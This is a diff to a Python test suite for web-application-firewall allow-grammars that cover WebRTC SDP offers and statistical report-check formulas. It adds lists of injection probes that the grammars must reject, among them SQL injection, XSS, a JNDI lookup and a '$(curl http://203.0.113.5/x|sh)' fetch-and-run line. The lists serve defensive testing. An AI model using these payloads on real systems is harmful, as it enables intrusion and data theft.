@@ -121,6 +121,97 @@ GRAPHQL_INJECTIONS = [  # each must fall back to every rule
 ]
 
 
+CHROME_OFFER = ("v=0\r\no=- 7683257626673602748 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n"
+                "a=group:BUNDLE 0 1\r\na=extmap-allow-mixed\r\na=msid-semantic: WMS\r\n"
+                "m=audio 9 UDP/TLS/RTP/SAVPF 111 63 9 0 8 13 110 126\r\nc=IN IP4 0.0.0.0\r\n"
+                "a=rtcp:9 IN IP4 0.0.0.0\r\na=ice-ufrag:X2P2\r\n"
+                "a=ice-pwd:SSEUYQcVYgOmrCzSADtf1CR7\r\na=ice-options:trickle\r\n"
+                "a=fingerprint:sha-256 0F:C6:E9:34:68:08:D0:63:F6:85:5B:E4:F6:2B:D6:1B:35:2B:"
+                "00:C0:A0:43:04:A2:26:09:FC:C4:13:30:E0:E1\r\n"
+                "a=setup:actpass\r\na=mid:0\r\n"
+                "a=extmap:1 urn:ietf:params:rtp-hdrext:ssrc-audio-level\r\n"
+                "a=extmap:2 http://www.webrtc.org/experiments/rtp-hdrext/abs-send-time\r\n"
+                "a=recvonly\r\na=rtcp-mux\r\na=rtpmap:111 opus/48000/2\r\n"
+                "a=rtcp-fb:111 transport-cc\r\na=fmtp:111 minptime=10;useinbandfec=1\r\n"
+                "a=rtpmap:63 red/48000/2\r\na=fmtp:63 111/111\r\n"
+                "a=ssrc-group:FID 1449948140 3816519390\r\n"
+                "a=ssrc:1449948140 cname:JwfHfXDrmSqSXi6m\r\n")
+SDP = [  # offers as srs.sdk.js posts them in {"sdp": ...} (Chrome) and as Firefox writes them (LF, braces, WMS *)
+    CHROME_OFFER,
+    CHROME_OFFER.rstrip("\r\n"),
+    "v=0\no=mozilla...THIS_IS_SDPARTA-99.0 5146102226460254451 0 IN IP4 0.0.0.0\ns=-\nt=0 0\n"
+    "a=fingerprint:sha-256 5A:1F:0B:7C\na=group:BUNDLE 0 1\na=ice-options:trickle\na=msid-semantic:WMS *\n"
+    "m=video 9 UDP/TLS/RTP/SAVPF 120 124\nc=IN IP4 0.0.0.0\na=recvonly\n"
+    "a=extmap:2/recvonly urn:ietf:params:rtp-hdrext:csrc-audio-level\na=msid:{d0b1f3ec-2c8e-4a53-9f1c-1f6a} {7e2f}\n"
+    "a=ssrc:3316523870 cname:{4b1c2b7e-5c2d-4b1d-a1f5-0c3e}\n",
+]
+SDP_INJECTIONS = [  # each must fall back to every rule
+    CHROME_OFFER + "a=x:1 union select password from users\r\n",  # noqa: S608 (a probe)
+    CHROME_OFFER + "a=x:1' or '1'='1\r\n",
+    CHROME_OFFER + "a=x:<script>alert(1)</script>\r\n",
+    CHROME_OFFER + "a=x:$(curl http://203.0.113.5/x|sh)\r\n",
+    CHROME_OFFER + "a=x:${jndi:ldap://203.0.113.5/a}\r\n",
+    CHROME_OFFER + "a=x:1;sleep(5)\r\n",
+    CHROME_OFFER + "a=x:1 -- \r\n",
+    CHROME_OFFER + "a=x:1/**/\r\n",
+    CHROME_OFFER + "a=x:`id`\r\n",
+    CHROME_OFFER + "a=x:1 and 1=1 #\r\n",
+    CHROME_OFFER + "a=x:%27\r\n",
+    CHROME_OFFER + "not an sdp line\r\n",
+    "o=- 1 2 IN IP4 127.0.0.1\r\n",  # not from v=0
+    "v=0\r\n\r\n",  # an empty line
+    "1 union select 1\nv=0\n",
+]
+REPORT_FORMULAS = [  # 一套表 审核公式 as the 联网直报 form check and 审核说明 requests carry them
+    # corpus J tuning part, stats-direct-report/form-check and check-explain (942100, 10120, 10431, 10460, 933161)
+    "[02]<=[01]*1.2",
+    "[325]<=[301]",
+    "[05]>=0 and [05]<=[01]",
+    "abs([301]/[301上年同期]-1)<=0.3",
+    "[03]<=[02]",
+    "[01]=[02]+[03]+[04]",
+    "[01] >= [02] AND [01] >= [03]",
+    "NOT ([06] > 0 AND [07] = 0)",
+    "[02]<>0 or [01]=0",
+    "[10]!=0",
+    "if([01]>0,[02]/[01],0)<=1.5",
+    "ROUND(SUM([11],[12],[13]),2)==[10]",
+    "max([01],[02])-min([01],[02])<=.5*[01]",
+    "[B204-1.01]>=[B204-1.02]",
+    "[行业代码]<>\"\" and len([统一社会信用代码])=18",
+    "substr([行业代码],1,2)=\"30\" or int([从业人员期末人数])>=1",
+    "[01]>=0\nand [02]>=0",
+]
+REPORT_FORMULA_INJECTIONS = [  # each must fall back to every rule
+    "[01]>=0 union select password from users",
+    "[01]>=0; drop table t_report",
+    "[01]>=0 -- x",
+    "[01]>=0 /* x */",
+    "[01]>=0 # x",
+    "[01]=1 or sleep(5)",
+    "[01]=1 and benchmark(1000000,md5(1))",
+    "[01]=1 waitfor delay '0:0:5'",
+    "[01]=(select 1)",
+    "[01]='1' or '1'='1'",
+    "[01]=\"1\" or \"a b\"=\"a b\"",  # a literal is a code: no space
+    "[01]=\"1\\\" or 1=1",
+    "[01]=1 and extractvalue(1,concat(0x7e,version()))",
+    "[01]=user",  # a bare word
+    "[01]>=0\nunion select password from users",
+    "[01]=`id`",
+    "[01]=$(id)",
+    "[01]>=0 | id",
+    "[01]>=0 && id",
+    "[01]=1 or @@version",
+    "[01]=%27",
+    "[01]<script>alert(1)</script>",
+    "system('id')",
+    "phpinfo()",
+    "[01]=1 or exec('id')",
+    "[01]=1 into outfile '/tmp/x'",
+]
+
+
 @pytest.mark.parametrize("value", FILTERS)
 def test_an_ordinary_filter_is_the_grammar(value: str) -> None:
     assert matches("filter-sql", value)
@@ -151,11 +242,43 @@ def test_an_injection_is_not_graphql(value: str) -> None:
     assert not matches("graphql", value)
 
 
-def test_pcre2_reads_the_graphql_table_as_python_does() -> None:
-    # The table above runs Python's re; the tier runs PCRE2 with libmodsecurity's options. Same verdicts.
-    pattern = filter_fields.LANGUAGES["graphql"].encode()
-    for value in GRAPHQL + GRAPHQL_INJECTIONS:
-        assert pcre2_matches(pattern, value.encode()) is matches("graphql", value), value
+@pytest.mark.parametrize("value", REPORT_FORMULAS)
+def test_an_ordinary_report_formula_is_the_grammar(value: str) -> None:
+    assert matches("report-formula", value)
+
+
+@pytest.mark.parametrize("value", REPORT_FORMULA_INJECTIONS)
+def test_an_injection_is_not_a_report_formula(value: str) -> None:
+    assert not matches("report-formula", value)
+
+
+def test_a_report_formula_field_leaves_the_sql_rules_and_933161_only() -> None:
+    ff = FilterField(("/lwzb/api/form/explain",), ("ARGS:formula",), "report-formula", "审核公式")
+    last = filter_fields.render(ff, 12101, "cms/x")[-1]
+    assert filter_fields.LANGUAGES["report-formula"] in last
+    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
+    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:formula", "ctl:ruleRemoveTargetById=933161;ARGS:formula",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/933161;ARGS:formula"]
+    assert not any(t in last for t in ("attack-php", "attack-xss", "attack-rce", "ruleRemoveById=", "ruleRemoveByTag="))
+
+@pytest.mark.parametrize("language,values", [("graphql", GRAPHQL + GRAPHQL_INJECTIONS),
+                                              ("report-formula", REPORT_FORMULAS + REPORT_FORMULA_INJECTIONS),
+                                              ("sdp", SDP + SDP_INJECTIONS)])
+def test_pcre2_reads_the_table_as_python_does(language: str, values: list[str]) -> None:
+    # The tables above run Python's re; the tier runs PCRE2 with libmodsecurity's options. Same verdicts.
+    pattern = filter_fields.LANGUAGES[language].encode()
+    for value in values:
+        assert pcre2_matches(pattern, value.encode()) is matches(language, value), value
+
+
+@pytest.mark.parametrize("value", SDP)
+def test_an_ordinary_session_description_is_sdp(value: str) -> None:
+    assert matches("sdp", value)
+
+
+@pytest.mark.parametrize("value", SDP_INJECTIONS)
+def test_an_injection_is_not_sdp(value: str) -> None:
+    assert not matches("sdp", value)
 
 
 def pcre2_matches(pattern: bytes, subject: bytes) -> bool:
